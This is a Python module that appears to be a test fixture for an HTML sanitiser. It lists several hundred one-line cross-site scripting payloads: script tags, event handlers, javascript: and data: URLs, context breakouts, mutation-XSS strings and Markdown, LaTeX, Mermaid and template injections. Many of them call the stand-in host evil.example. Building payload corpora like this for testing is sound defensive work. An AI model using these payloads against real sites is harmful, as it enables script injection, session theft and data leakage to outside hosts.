"""Attacks that are written into texts: each would run `ran(its number)`, or ask evil.example for something.

Kinds: script elements, handlers on elements of HTML, SVG and MathML, addresses that are programs, what asks for things
elsewhere, what breaks out of an attribute, a comment or a text area, what a sanitiser may put together wrongly, and the
languages that pages translate: Markdown, LaTeX, Mermaid, templates. Each stands on one line.
"""

from __future__ import annotations

from base64 import b64encode

SCRIPTS = """
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
<script src=//evil.example/a.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>import "//evil.example/m.js";RUN</script>
<script>RUN//
<scr<script>ipt>RUN</scr</script>ipt>
<script/x>RUN</script/x>
<script><!-- RUN //--></script>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN" /></svg>
<svg><script>&#114;&#97;&#110;(1)</script></svg>
<noscript><script>RUN</script></noscript>
"""
HANDLERS = """
<img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<IMG SRC=x OnErRoR="RUN">
<img src=x onerror=&#114;&#97;&#110;(1)>
<img src=x onerror="window['ra'+'n'](1)">
<img src=x: alt=x onerror=eval(src) x=RUN>
<image src=x onerror=RUN>
<img src=/icon.png onload=RUN>
<svg onload=RUN>
<svg/onload=RUN//
<svg><g onload=RUN></g></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=1>
<svg><discard onbegin=RUN>
<svg><style onload=RUN></style></svg>
<svg><title onload=RUN></title><a><rect onclick=RUN width=99 height=99 /></a></svg>
<math><mi onclick=RUN>x</mi></math>
<body onload=RUN>
<body onpageshow=RUN>
<html onmousemove=RUN>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video onloadstart=RUN><source></video>
<audio src=x onerror=RUN></audio>
<audio src onloadstart=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<a href=# tabindex=1 autofocus onfocus=RUN>x</a>
<p contenteditable autofocus onfocus=RUN>x</p>
<details open ontoggle=RUN><summary>x</summary></details>
<dialog open onclose=RUN oncancel=RUN>x</dialog>
<marquee onstart=RUN>x</marquee>
<object onerror=RUN data=x></object>
<embed src=x onerror=RUN onload=RUN>
<iframe onload=RUN></iframe>
<frameset onload=RUN></frameset>
<link rel=stylesheet href=x onerror=RUN>
<style onload=RUN></style>
<b onmouseover=RUN style="position:fixed;inset:0">x</b>
<b style="animation:spin 1ms" onanimationstart=RUN onanimationend=RUN>x</b>
<b style="transition:all 1ms" ontransitionend=RUN>x</b>
<b oncontentvisibilityautostatechange=RUN style="display:block;content-visibility:auto">x</b>
<b popover id=p onbeforetoggle=RUN>x</b><button popovertarget=p>x</button>
<b onpointerrawupdate=RUN onscrollend=RUN onwheel=RUN oncopy=RUN>x</b>
<button data-id=x onclick=RUN>x</button>
"""
ADDRESSES = """
<a href="javascript:RUN">x</a>
<a href=" &#1; jAvA&Tab;script&colon;RUN">x</a>
<a href="java&NewLine;script:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="data:text/html;base64,BASE64">x</a>
<a href="vbscript:RUN">x</a>
<a href="blob:null/x" ping="//evil.example/ping">x</a>
<a xlink:href="javascript:RUN">x</a>
<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
<math href="javascript:RUN">x</math>
<math><maction actiontype=statusline#//evil.example xlink:href="javascript:RUN">x</maction></math>
<area href="javascript:RUN" shape=default>
<form action="javascript:RUN"><input type=submit></form>
<button formaction="javascript:RUN">x</button>
<isindex action="javascript:RUN" type=image>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="data:text/html;base64,BASE64"></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,BASE64"></object>
<embed src="data:image/svg+xml;base64,BASE64">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href="javascript:RUN//">
"""
ELSEWHERE = """
<img src=//evil.example/a.png>
<img srcset="//evil.example/b.png 2x">
<picture><source srcset=//evil.example/c.png><img></picture>
<video poster=//evil.example/d.png></video>
<input type=image src=//evil.example/e.png>
<table background=//evil.example/f.png><td>x</td></table>
<b style="background:url(//evil.example/g.png)">x</b>
<style>@import "//evil.example/h.css"; body{background:url(//evil.example/i.png)}</style>
<link rel=stylesheet href=//evil.example/j.css>
<link rel=prefetch href=//evil.example/k>
<iframe src=//evil.example/l></iframe>
<base href=//evil.example/>
<form id=x action=//evil.example/m><input name=attributes></form>
<svg><image href=//evil.example/n.png /></svg>
<svg><feImage href="//evil.example/o.svg" /></svg>
"""
BREAKS = """
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
` onmouseover=RUN x=`
" autofocus onfocus=RUN x="
' autofocus onfocus=RUN x='
--><img src=x onerror=RUN><!--
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><img src=x onerror=RUN>
</script><script>RUN</script>
]]><img src=x onerror=RUN>
</p></li></blockquote></article></div><script>RUN</script>
\\u003cimg src=x onerror=RUN\\u003e
&lt;img src=x onerror=RUN&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
%3Cimg src=x onerror=RUN%3E
＜img src=x onerror=RUN＞
+ADw-script+AD4-RUN+ADw-/script+AD4-
"};RUN;var x={"a":"
</mark><script>RUN</script><mark>
"""
MUTATIONS = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<noscript><p title="</noscript><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<template><img src=x onerror=RUN></template>
<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>
<select><iframe><select><img src=x onerror=RUN>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<plaintext><img src=x onerror=RUN>
<a id=document name=cookie>x</a><a id=document name=body href="javascript:RUN">x</a>
"""
LANGUAGES = """
[x](javascript:RUN)
[x](<javascript:RUN>)
[x](JaVaScRiPt&colon;RUN)
[x](data:text/html;base64,BASE64)
[x](//evil.example/p "onclick=RUN")
[x]: javascript:RUN
![x](//evil.example/q.png)
![x](//evil.example/r.png"onerror="RUN)
![x](javascript:RUN)
<javascript:RUN>
<https://evil.example/?"onmouseover="RUN>
`<img src=x onerror=RUN>`
~~<img src=x onerror=RUN>~~ **<svg onload=RUN>** _<svg onload=RUN>_
$$\\href{javascript:RUN}{x}$$
$\\htmlData{x=1}{x}$ \\(\\includegraphics{//evil.example/s.png}\\)
$$\\url{javascript:RUN}$$
graph TD; A["<img src=x onerror=RUN>"] --> B; click A "javascript:RUN"
{{constructor.constructor('RUN')()}}
{{7*7}} ${RUN} #{RUN} <%= RUN %>
{@html '<img src=x onerror=RUN>'}
${alert`RUN`}
"""

_RUN = "RUN"
_PAGE = "BASE64"


def _numbered(kinds: str) -> list[str]:
    lines = [line for line in kinds.splitlines() if line]
    return [_filled(line, f"ran({number})") for number, line in enumerate(lines, start=1)]


def _filled(line: str, program: str) -> str:
    page = b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{program}'/>".encode()).decode()
    return line.replace(_RUN, program).replace(_PAGE, page)


PAYLOADS = _numbered(SCRIPTS + HANDLERS + ADDRESSES + ELSEWHERE + BREAKS + MUTATIONS + LANGUAGES)
